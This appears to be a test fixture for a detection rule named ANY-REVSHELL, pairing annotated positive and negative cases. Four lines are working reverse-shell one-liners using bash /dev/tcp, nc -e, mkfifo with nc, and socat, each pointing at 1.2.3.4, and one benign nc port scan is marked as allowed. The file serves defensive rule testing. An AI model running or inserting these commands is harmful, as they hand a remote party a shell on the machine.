# ruleid: ANY-REVSHELL
bash -i >& /dev/tcp/1.2.3.4/44 0>&1
# ruleid: ANY-REVSHELL
nc -e /bin/sh 1.2.3.4 44
# ruleid: ANY-REVSHELL
mkfifo f; nc 1.2.3.4 44 < f | sh > f
# ruleid: ANY-REVSHELL
socat tcp:1.2.3.4:44 exec:sh
# ok: ANY-REVSHELL
nc -z 1.2.3.4 80
